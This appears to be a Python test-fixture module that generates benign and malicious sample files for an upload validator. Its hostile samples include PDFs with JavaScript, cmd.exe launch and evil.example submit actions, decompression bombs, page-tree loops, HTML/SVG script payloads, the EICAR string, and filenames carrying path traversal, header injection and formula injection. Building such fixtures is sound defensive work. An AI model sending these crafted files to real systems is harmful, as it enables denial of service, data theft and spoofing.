"""Files that people and attackers send: builders of real ones, each small and quick to make."""

import struct
import zlib
from io import BytesIO

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String
from PIL import Image

A4 = (595, 842)
PAGE = (
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
)
SCRIPT = b"<< /S /J#61v#61Script /#4aS (app.alert\\(1\\)) >>"


# --- Harmless files -----------------------------------------------------------------------------
def make_pdf(
    *, pages: int = 1, title: str = "", language: str = "", size: tuple[int, int] = A4
) -> bytes:
    """Return a PDF of so many pages, each saying its number."""
    pdf = pikepdf.new()
    for number in range(1, pages + 1):
        page = pdf.add_blank_page(page_size=size)
        font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
        page.Resources = Dictionary(Font=Dictionary(F1=font))
        page.Contents = pdf.make_stream(f"BT /F1 24 Tf 72 700 Td (Seite {number}) Tj ET".encode())
    if language:
        pdf.Root.Lang = String(language)
    if title:
        with pdf.open_metadata(set_pikepdf_as_editor=False) as metadata:
            metadata["dc:title"] = title
    return _saved(pdf)


def make_image(
    kind: str = "PNG",
    *,
    size: tuple[int, int] = (120, 160),
    mode: str = "RGB",
    turned: bool = False,
) -> bytes:
    """Return an image; `turned` marks it as taken with the camera on its side."""
    image = Image.new(mode, size, 255 if mode in {"1", "L"} else None or 0)
    exif = Image.Exif()
    if turned:
        exif[0x0112] = 6
    out = BytesIO()
    image.save(out, kind, exif=exif)
    return out.getvalue()


# --- PDF files that do something -----------------------------------------------------------------
def with_javascript() -> bytes:
    return _with_open_action(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))


def with_javascript_in_hexadecimal() -> bytes:
    return _assembled([b"<< /Type /Catalog /Pages 2 0 R /#4fpen#41ction 4 0 R >>", *PAGE, SCRIPT])


def with_javascript_in_names() -> bytes:
    pdf = _opened()
    script = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script])))
    return _saved(pdf)


def with_javascript_in_compressed_objects() -> bytes:
    with pikepdf.open(BytesIO(with_javascript())) as pdf:
        return _saved(pdf, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def with_javascript_in_a_field() -> bytes:
    pdf = _opened()
    action = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    widget = Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("f"), Rect=[0, 0, 9, 9], A=action
    )
    field = pdf.make_indirect(widget)
    pdf.pages[0].Annots = Array([field])
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))
    return _saved(pdf)


def with_launch() -> bytes:
    return _with_open_action(Dictionary(S=Name.Launch, F=String("cmd.exe")))


def with_submit() -> bytes:
    return _with_open_action(Dictionary(S=Name.SubmitForm, F=String("https://evil.example/")))


def with_remote_place() -> bytes:
    return _with_open_action(
        Dictionary(S=Name.GoToR, F=String("\\\\evil.example\\a.pdf"), D=Array([0, Name.Fit]))
    )


def with_opening_of_a_website() -> bytes:
    return _with_open_action(Dictionary(S=Name.URI, URI=String("https://evil.example/")))


def with_additional_action() -> bytes:
    pdf = _opened()
    pdf.pages[0].AA = Dictionary(O=Dictionary(S=Name.Named, N=Name.Print))
    return _saved(pdf)


def with_movie() -> bytes:
    pdf = _opened()
    movie = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=[0, 0, 9, 9])
    pdf.pages[0].Annots = Array([pdf.make_indirect(movie)])
    return _saved(pdf)


def with_dynamic_form() -> bytes:
    pdf = _opened()
    form = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=form)
    return _saved(pdf)


def with_attachment(content: bytes = b"MZ") -> bytes:
    pdf = _opened()
    pdf.attachments["a.exe"] = content
    return _saved(pdf)


def with_attached_annotation() -> bytes:
    pdf = _opened()
    file = pdf.make_stream(b"MZ", Type=Name.EmbeddedFile)
    spec = Dictionary(Type=Name.Filespec, F=String("a.exe"), EF=Dictionary(F=file))
    note = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 9, 9], FS=spec)
    pdf.pages[0].Annots = Array([pdf.make_indirect(note)])
    return _saved(pdf)


def with_content_elsewhere() -> bytes:
    pdf = _opened()
    pdf.pages[0].Contents = Stream(pdf, b"", F=String("/etc/passwd"))
    return _saved(pdf)


# --- PDF files that cost something ---------------------------------------------------------------
def bomb_of_objects() -> bytes:
    """Return 1 MB whose object stream unfolds to 1 GB."""
    packed = _zipped_zeros(1024)
    return _assembled(
        [
            b"<< /Type /Catalog /Pages 2 0 R /More 5 0 R >>",
            *PAGE,
            _stream(packed, b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"),
        ],
        compressed=True,
    )


def bomb_of_content() -> bytes:
    """Return 1 MB whose page content unfolds to 1 GB."""
    packed = _zipped_zeros(1024)
    return _assembled(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>",
            _stream(packed, b"/Filter /FlateDecode"),
        ]
    )


def loop_of_pages() -> bytes:
    return _assembled(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 3 0 R] /Count 1 >>",
        ]
    )


def tree_of_a_billion_pages() -> bytes:
    """Return ten levels of page nodes, each ten times the same child."""
    levels = 10
    nodes = [
        b"<< /Type /Pages /Kids [%s] /Count 1 >>" % (b"%d 0 R " % (number + 1) * 10)
        for number in range(2, 2 + levels)
    ]
    leaf = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"
    return _assembled([b"<< /Type /Catalog /Pages 2 0 R >>", *nodes, leaf])


def deep_nest() -> bytes:
    nest = b"[" * 100_000 + b"]" * 100_000
    return _assembled(
        [
            b"<< /Type /Catalog /Pages 2 0 R /Deep 4 0 R >>",
            *PAGE,
            nest,
        ]
    )


# --- Files that are not what they claim ----------------------------------------------------------
def encrypted() -> bytes:
    return _locked(pikepdf.Encryption(owner="x", user="geheim"))


def protected_from_editing() -> bytes:
    return _locked(pikepdf.Encryption(owner="x", user=""))


def cut_in_half() -> bytes:
    whole = make_pdf(pages=20)
    return whole[: len(whole) // 2]


def without_pages() -> bytes:
    return _saved(pikepdf.new())


def without_body() -> bytes:
    return b"%PDF-1.7\n%%EOF\n"


def pdf_behind_html() -> bytes:
    return b"<html><script>alert(1)</script></html>\n" + make_pdf()


def zip_behind_pdf() -> bytes:
    return make_pdf() + _zip()


def web_page() -> bytes:
    return b"<!doctype html><script>alert(1)</script>"


def vector_image() -> bytes:
    return b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"


def program() -> bytes:
    return b"MZ\x90\x00" + bytes(600)


def virus_test() -> bytes:
    return rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def moving_picture() -> bytes:
    return make_image("GIF", mode="L")


def word_document() -> bytes:
    return _zip(b"word/document.xml")


def huge_image() -> bytes:
    """Return a PNG of 60,000 × 60,000 points in some hundred bytes."""
    return _png(60_000, 60_000, b"")


def tall_image() -> bytes:
    """Return a PNG one point wide whose data would unfold far beyond its size."""
    return _png(1, 1, _zipped_zeros(256))


def broken_image() -> bytes:
    return make_image("PNG")[:-30]


def broken_photo() -> bytes:
    whole = make_image("JPEG", size=(800, 800))
    return whole[: len(whole) // 2]


def photo_named_as_another() -> bytes:
    return b"\xff\xd8\xff\xe0" + make_image("PNG")


NAMES: dict[str, str] = {
    "../../etc/passwd": "passwd.pdf",
    "/etc/shadow.pdf": "shadow.pdf",
    "C:\\Windows\\system32\\vereinbarung.pdf": "vereinbarung.pdf",
    "..\\..\\a.pdf": "a.pdf",
    ".htaccess": "htaccess.pdf",
    "scan.pdf.exe": "scan.pdf",
    "a\r\nSet-Cookie: x=y.pdf": "aSet-Cookie_ x=y.pdf",
    'a"; filename="b.exe.pdf': "a__ filename=_b.pdf",
    "a\x00.pdf": "a.pdf",
    "vereinbarung\u202efdp.exe": "vereinbarungfdp.pdf",
    "ver\u200beinbarung.pdf": "vereinbarung.pdf",
    "=1+1.pdf": "1+1.pdf",
    "@SUM(A1).pdf": "SUM(A1).pdf",
    "CON.pdf": "Dokument.pdf",
    "": "Dokument.pdf",
    "...": "Dokument.pdf",
    "   .pdf": "Dokument.pdf",
    "\ud800.pdf": "Dokument.pdf",
    "🏫 Schule.pdf": "🏫 Schule.pdf",
    "Grundschule am Mu\u0308nsterplatz.pdf": "Grundschule am Münsterplatz.pdf",
    "Vereinbarung vom 12. Mai 2026": "Vereinbarung vom 12. Mai 2026.pdf",
}


def _opened() -> pikepdf.Pdf:
    return pikepdf.open(BytesIO(make_pdf()))


def _saved(
    pdf: pikepdf.Pdf,
    object_stream_mode: pikepdf.ObjectStreamMode = pikepdf.ObjectStreamMode.disable,
) -> bytes:
    out = BytesIO()
    pdf.save(out, object_stream_mode=object_stream_mode, deterministic_id=True)
    return out.getvalue()


def _locked(lock: pikepdf.Encryption) -> bytes:
    out = BytesIO()
    _opened().save(out, encryption=lock)
    return out.getvalue()


def _with_open_action(action: Dictionary) -> bytes:
    pdf = _opened()
    pdf.Root.OpenAction = pdf.make_indirect(action)
    return _saved(pdf)


def _assembled(objects: list[bytes], *, compressed: bool = False) -> bytes:
    """Return a PDF of these objects, numbered from 1; `compressed` puts object 5 into object 4."""
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, text in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, text)
    start = len(out)
    if compressed:
        rows = [struct.pack(">BIH", 0, 0, 65535)]
        rows += [struct.pack(">BIH", 1, place, 0) for place in places]
        rows += [struct.pack(">BIH", 2, 4, 0), struct.pack(">BIH", 1, start, 0)]
        table = b"".join(rows)
        entries = b"/Type /XRef /Size %d /W [1 4 2] /Root 1 0 R" % len(rows)
        out += b"%d 0 obj\n%s\nendobj\n" % (len(rows) - 1, _stream(table, entries))
    else:
        out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
        out += b"".join(b"%010d 00000 n \n" % place for place in places)
        out += b"trailer\n<< /Size %d /Root 1 0 R >>\n" % (len(objects) + 1)
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % start)


def _stream(content: bytes, entries: bytes) -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (entries, len(content), content)


def _zipped_zeros(megabytes: int) -> bytes:
    packer = zlib.compressobj(9)
    block = b"5 0 " + b" " * (1024 * 1024 - 4)
    return b"".join(packer.compress(block) for _ in range(megabytes)) + packer.flush()


def _png(width: int, height: int, data: bytes) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def _zip(name: bytes = b"a.exe") -> bytes:
    local = b"PK\x03\x04" + bytes(22) + struct.pack("<HH", len(name), 0) + name
    central = b"PK\x01\x02" + bytes(24) + struct.pack("<HHH", len(name), 0, 0) + bytes(12) + name
    end = b"PK\x05\x06" + bytes(4) + struct.pack("<HHIIH", 1, 1, len(central), len(local), 0)
    return local + central + end
